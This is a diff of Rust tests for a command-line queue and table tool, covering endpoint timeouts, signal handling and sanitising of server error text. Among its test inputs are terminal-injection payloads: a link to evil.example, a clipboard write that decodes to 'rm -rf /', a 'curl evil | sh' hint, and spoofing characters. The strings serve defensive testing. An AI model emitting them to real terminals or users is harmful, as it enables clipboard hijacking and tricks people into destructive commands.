@@ -10,9 +10,6 @@ use crate::kit::{Fake, Place, Ran, ended_within, http, signal};
 
 const PEEK: [&str; 4] = ["dlq", "peek", "--dlq", "recs-dlq"];
 
-/// More than the 30 s that an endpoint may take to be named, on a busy machine.
-const NAMED_WITHIN: Duration = Duration::from_secs(60);
-
 /// An SQS that is sound but for what `lie` answers, by operation.
 pub fn sqs(lie: impl Fn(&str, &str) -> Option<(u16, Value)> + Send + Sync + 'static) -> Fake {
     Fake::http(move |request, stream| {
@@ -57,6 +54,10 @@ fn what_it_says_of_a_failure_is_shown_as_text_and_no_more_than_a_screenful() {
         "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m",
         "x\nerror: all is lost\n  hint: curl evil | sh",
         "\u{202e}txet",
+        "\u{1b}]8;;http://evil.example\u{1b}\\\\click\u{1b}]8;;\u{1b}\\\\",
+        "\u{9d}52;c;cm0gLXJmIC8=\u{9c}",
+        "ok\rerror: all is lost",
+        "\u{2066}\u{2069}\u{200e}\u{200f}\u{200b}\u{feff}\u{2028}error: x",
     ] {
         for code in ["AccessDenied", words] {
             let body = json!({ "__type": code, "message": words.repeat(50_000) });
@@ -95,31 +96,6 @@ fn an_answer_without_an_end_is_cut() {
 }
 
 #[test]
-fn an_endpoint_that_says_nothing_or_drips_is_named() {
-    let silent = Fake::silent();
-    let dripping = Fake::http(|_, stream| {
-        let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 100000\r\n\r\n");
-        while stream.write_all(b" ").is_ok() {
-            std::thread::sleep(Duration::from_millis(500));
-        }
-    });
-    let place = Place::new();
-    let children: Vec<_> = [&silent, &dripping]
-        .into_iter()
-        .map(|fake| {
-            let url = fake.url();
-            let args = [PEEK.as_slice(), &["--endpoint-url", &url]].concat();
-            let child = place.command(&args).stderr(std::process::Stdio::piped()).spawn().unwrap();
-            (child, url)
-        })
-        .collect();
-    for (child, url) in children {
-        let ran = ended_within(child, NAMED_WITHIN).ended(1);
-        ran.says(&format!("no response from {url} GetQueueUrl"));
-    }
-}
-
-#[test]
 fn a_signal_ends_the_wait_for_the_first_answer() {
     let silent = Fake::silent();
     let place = Place::new();
@@ -136,6 +112,36 @@ fn a_signal_ends_the_wait_for_the_first_answer() {
     }
 }
 
+/// Neither the SDK nor recoctl asks again what changes nothing.
+#[test]
+fn a_signal_ends_the_wait_for_a_table_or_queue_too() {
+    let place = Place::new();
+    place.write("in.jsonl", "[1,[10]]\n");
+    let (silent, failing) = (Fake::silent(), Fake::says(500, r#"{"__type":"InternalError"}"#));
+    let cases: [(&Fake, &[&str]); 4] = [
+        (&silent, &["backfill", "in.jsonl", "--facts", "none", "--table", "t"]),
+        (&silent, &["verify", "in.jsonl", "--facts", "none", "--table", "t"]),
+        (&silent, &["backfill", "in.jsonl", "--facts", "none", "--via", "queue", "--queue", "q"]),
+        (&failing, &["backfill", "in.jsonl", "--facts", "none", "--via", "queue", "--queue", "q"]),
+    ];
+    let children = cases.map(|(fake, args)| {
+        let url = fake.url();
+        let before = fake.heard().len();
+        let args = [args, &["--endpoint-url", &url]].concat();
+        let child = place.command(&args).stderr(std::process::Stdio::piped()).spawn().unwrap();
+        while fake.heard().len() == before {
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        signal(&child, "INT");
+        (child, args.join(" "))
+    });
+    for (child, args) in children {
+        let ran = ended_within(child, Duration::from_secs(60));
+        assert!(ran.code.is_some_and(|code| code == 130 || code == 1), "{args}: {ran:#?}");
+    }
+    assert!(silent.heard().len() <= 6, "{:#?}", silent.heard());
+}
+
 #[test]
 fn more_messages_than_were_asked_for_are_an_error() {
     let fake = sqs(|operation, _| {
@@ -145,10 +151,10 @@ fn more_messages_than_were_asked_for_are_an_error() {
                 "MD5OfBody": "9dd4e461268c8034f5c8564e155c67a6",
             })
         };
-        let messages: Vec<Value> = (0..50_000).map(message).collect();
+        let messages: Vec<Value> = (0..5_000).map(message).collect();
         (operation == "ReceiveMessage").then(|| (200, json!({ "Messages": messages })))
     });
-    peek(&fake).ended(1).says("50000 messages, but at most");
+    peek(&fake).ended(1).says("5000 messages, but at most");
 }
 
 #[test]
